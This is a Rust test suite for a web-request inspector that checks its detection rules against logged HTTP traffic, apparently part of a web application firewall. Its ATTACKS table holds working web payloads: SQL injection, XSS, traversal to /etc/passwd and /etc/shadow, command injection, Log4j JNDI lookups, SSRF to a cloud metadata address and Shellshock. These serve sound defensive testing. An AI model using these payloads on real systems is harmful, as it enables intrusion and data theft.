use event::{Bytes, Meta, Severity, Uid};

use super::*;

fn inspector() -> Inspector {
    let web_rules = crate::rule_set(crate::web::RULES)
        .unwrap_or_else(|errors| panic!("{}", errors.iter().map(|e| e.to_string()).collect::<Vec<_>>().join("\n")));
    Inspector::new(&Knowledge { web_rules: Arc::new(web_rules), ..Knowledge::default() })
}

#[test]
fn every_rule_file_is_built_in() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content/rules/web");
    let mut files: Vec<String> = std::fs::read_dir(folder)
        .expect("content")
        .filter_map(|f| f.ok()?.file_name().into_string().ok())
        .filter(|f| f.ends_with(".conf"))
        .collect();
    files.sort();
    assert_eq!(files, crate::web::RULES.iter().map(|(name, _)| *name).collect::<Vec<_>>());
}

/// Values that must be blocked, with the class they belong to.
const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "x' or 'a'='a"),
    ("sqli", "7 and 4=4"),
    ("sqli", "nobody') OR ('p'='p' -- "),
    ("sqli", "3 UniOn/**/aLl/**/SeLeCt 1,2,version()"),
    ("sqli", "5;drop table visits--"),
    ("sqli", "1' and sleep(7)-- -"),
    ("sqli", "2; waitfor delay '0:0:9'--"),
    ("sqli", "9 and (select count(*) from users)>0"),
    ("sqli", "admin'-- "),
    ("sqli", "1' and extractvalue(1,concat(0x7e,version()))#"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "\"><img src=q onerror=prompt(4)>"),
    ("xss", "<svg/onload=confirm`1`>"),
    ("xss", "javascript:alert(document.domain)"),
    ("xss", "<a href=\"javascript&colon;alert(7)\">t</a>"),
    ("path", "../../../../etc/passwd"),
    ("path", "..\\..\\..\\windows\\win.ini"),
    ("path", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("path", "/etc/shadow"),
    ("path", "php://filter/convert.base64-encode/resource=index"),
    ("cmdi", "8.8.8.8; cat /etc/passwd"),
    ("cmdi", "x|id"),
    ("cmdi", "`whoami`"),
    ("cmdi", "a && ls -la /"),
    ("ssti", "{{6*7}}"),
    ("ssti", "${8*8}"),
    ("ssti", "{{''.__class__.__mro__}}"),
    ("log4j", "${jndi:ldap://h.example/a}"),
    ("log4j", "${${lower:j}ndi:rmi://h.example/a}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "gopher://10.0.0.9:6379/_x"),
    ("nosqli", "{\"$gt\":\"\"}"),
    ("nosqli", "a'; return this.a == 'b"),
    ("ldapi", "*)(uid=*))(|(uid=*"),
    ("xxe", "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><r>&e;</r>"),
    ("ssi", "<!--#exec cmd=\"id\"-->"),
    ("crlf", "en\r\nSet-Cookie: s=1"),
    ("php", "O:4:\"Evil\":1:{s:1:\"a\";i:1;}"),
    ("shellshock", "() { :;}; /bin/true"),
];

/// Values that people and programs send.
const HARMLESS: &[&str] = &[
    "O'Brien",
    "d'Artagnan and sons",
    "the select committee on union law",
    "Please select one or two of the drop-down items",
    "union square hotel",
    "where to drop off and pick up",
    "1 and 2 or 3",
    "a<b and b>c",
    "x = y or z",
    "rock 'n' roll",
    "it's 5 o'clock; who's there?",
    "SELECT is a SQL keyword, FROM names the table",
    "insert coin to update your table order by noon",
    "I can't order by phone--please help",
    "if (a < b && c > d) { return a; }",
    "for i in range(10): print(i)",
    "fn main() { println!(\"{}\", 1 + 1); }",
    "border: 1px solid #ccc;",
    "https://www.example.com/path?x=1&y=2#top",
    "user+tag@example.co.uk",
    "2026-11-23T00:00:00Z",
    "550e8400-e29b-41d4-a716-446655440000",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "## Heading\n\n* one\n* two\n\n```sh\nls -la\n```",
    "See ../README.md for more",
    "50% off & free shipping!",
    "Gr\u{fc}\u{df}e aus M\u{fc}nchen",
    "\u{4f60}\u{597d}\u{ff0c}\u{4e16}\u{754c}",
    "\u{645}\u{631}\u{62d}\u{628}\u{627}",
    "C:\\Users\\ann\\Documents\\report.docx",
    "c:\\windows\\system32",
    "b&w photos",
    "^[a-z]+\\d{2,4}$",
    "{\"name\":\"x\",\"tags\":[\"a\",\"b\"]}",
    "<p>Hello <b>world</b></p>",
    "Tom & Jerry; cat and mouse",
    "cost is $100 (or 90)",
    "template {{name}} here",
    "${HOME} is a variable",
    "how do I use the script element on a page?",
    "an alert (see below)",
    "onclick handlers are old",
    "(a|b)&(c|d)",
    "John (CEO) & Jane (CTO)",
    "and 1 more thing",
    "\"quoted\" or 'quoted'",
    "drop table saw",
    "sleep (8 hours)",
    "wait for delay announcements",
];

#[test]
fn attacks_are_blocked_in_every_place() {
    let (inspector, mut scratch) = (inspector(), Scratch::default());
    let mut missed = Vec::new();
    for (class, attack) in ATTACKS {
        for place in [Place::Query, Place::Form, Place::Json, Place::Xml] {
            let said = inspector.inspect_row(attack.as_bytes(), place, &mut scratch);
            let finding = said.finding.as_deref();
            if !said.verdict_block || finding.is_none() {
                missed.push(format!(
                    "{class} {attack} {place:?} {:.2} {:?}",
                    said.score,
                    said.rules.iter().map(|r| r.id).collect::<Vec<_>>()
                ));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn harmless_values_are_left_alone() {
    let (inspector, mut scratch) = (inspector(), Scratch::default());
    let mut wrong = Vec::new();
    for text in HARMLESS {
        for place in [Place::Query, Place::Form, Place::Json, Place::Xml, Place::Header, Place::Cookie] {
            let said = inspector.inspect_row(text.as_bytes(), place, &mut scratch);
            if said.verdict_block {
                wrong.push(format!("{text} {place:?} {:?}", said.rules));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn from_log(target: &str, agent: &str) -> Event {
    let line = format!("192.0.2.9 - - [23/Nov/2026:10:00:00 +0000] \"GET {target} HTTP/1.1\" 200 12 \"-\" \"{agent}\"");
    let http = Http {
        client: "192.0.2.9".parse().ok(),
        method: "GET".into(),
        target: target.into(),
        version: "HTTP/1.1".into(),
        user_agent: agent.into(),
        status: Some(200),
        ..Http::default()
    };
    let meta = Meta { uid: Uid::of_record("t", 1), source: "t".into(), record: 1, ..Meta::default() };
    Event::new(meta, Body::Http(Box::new(http)), Bytes::from(line.into_bytes()))
}

#[test]
fn a_finding_says_why_and_points_at_the_bytes_of_the_log_line() {
    let (inspector, mut scratch) = (inspector(), Scratch::default());
    let event = from_log("/item?id=1&q=%27%20or%20%271%27%3D%271", "Mozilla/5.0");
    let said = inspector.inspect(&event, &mut scratch);
    let finding = said.finding.expect("an attack");
    assert_eq!((finding.title.as_str(), finding.severity), ("SQL injection in q", Severity::High));
    assert_eq!(
        finding.reasons[0].text,
        "the value of q holds a closed quote and a SQL condition that is always true (tautology): `' or '1'='`"
    );
    assert_eq!(finding.reasons[0].code, "sqli.tautology");
    let sum: f32 = finding.reasons.iter().map(|r| r.push).sum();
    assert!((sum - finding.score.value()).abs() < 1e-3);
    let mark = finding.evidence[0].matches.iter().find(|m| m.by == "rule 1001").expect("the rule's bytes");
    let shown = &finding.evidence[0].raw[mark.start as usize..mark.end as usize];
    assert_eq!((String::from_utf8_lossy(shown).as_ref(), mark.target.as_str()), ("%27%20or%20%271%27%3D%27", "ARGS:q"));
    assert!(finding.would_change.starts_with("without rule 1001 0."), "{}", finding.would_change);
    let tool = inspector.inspect(&from_log("/", "sqlmap/1.7.2#stable (https://sqlmap.org)"), &mut scratch).finding.expect("a tool");
    let mark = tool.evidence[0].matches.last().expect("marked");
    assert_eq!(&tool.evidence[0].raw[mark.start as usize..mark.end as usize], b"sqlmap/1");
}

#[test]
fn a_hit_more_never_lowers_the_score() {
    let (inspector, mut scratch) = (inspector(), Scratch::default());
    for (_, attack) in ATTACKS {
        let alone = inspector.inspect_row(attack.as_bytes(), Place::Form, &mut scratch).score;
        let event = row_event(attack.as_bytes(), Place::Form);
        let Body::Http(mut http) = event.body.clone() else { unreachable!("a request") };
        let body = [b"a=1%27+or+1%3D1&".as_slice(), http.body.as_deref().unwrap_or_default()].concat();
        http.body = Some(Bytes::from(body));
        let more = inspector.inspect(&Event { body: Body::Http(http), ..event }, &mut scratch).score;
        assert!(more >= alone, "{attack}");
    }
}

proptest::proptest! {
    #[test]
    fn any_request_is_inspected(target in ".{0,80}", agent in ".{0,40}", cut in 0usize..60) {
        let inspector = Inspector::new(&Knowledge { web_rules: Arc::new(crate::rule_set(&crate::web::RULES[..1]).unwrap_or_default()), ..Knowledge::default() });
        let mut event = from_log(&target, &agent);
        event.raw = Bytes::from(event.raw[..event.raw.len().min(cut)].to_vec());
        let said = inspector.inspect(&event, &mut Scratch::default());
        if let Some(finding) = said.finding {
            let evidence = &finding.evidence[0];
            proptest::prop_assert!(evidence.matches.iter().all(|m| m.start <= m.end && m.end as usize <= evidence.raw.len()));
        }
    }
}

/// What was learned from clean requests changes no answer, also where a rule needs two values of one request.
#[test]
fn known_values_change_nothing() {
    let inspector = inspector();
    let mut warm = Scratch::default();
    let rows: Vec<&str> = ATTACKS.iter().map(|(_, value)| *value).chain(["oak bucket", "O'Brien", "select a table", "id", "7"]).collect();
    for round in 0..3 {
        for (n, value) in rows.iter().enumerate() {
            for place in [Place::Query, Place::Form, Place::Header, Place::Cookie] {
                let event = row_event(value.as_bytes(), place);
                let fresh = inspector.inspect(&event, &mut Scratch::default());
                let known = inspector.inspect(&event, &mut warm);
                assert_eq!(
                    (fresh.score, &fresh.rules, &fresh.finding),
                    (known.score, &known.rules, &known.finding),
                    "round {round}, row {n} {value:?}"
                );
            }
        }
    }
    // Other rules: nothing of before counts.
    let none = Inspector::new(&Knowledge::default());
    let attack = row_event(b"x' or 'a'='a", Place::Query);
    assert!(none.inspect(&attack, &mut warm).rules.is_empty());
    assert!(!inspector.inspect(&attack, &mut warm).rules.is_empty());
}
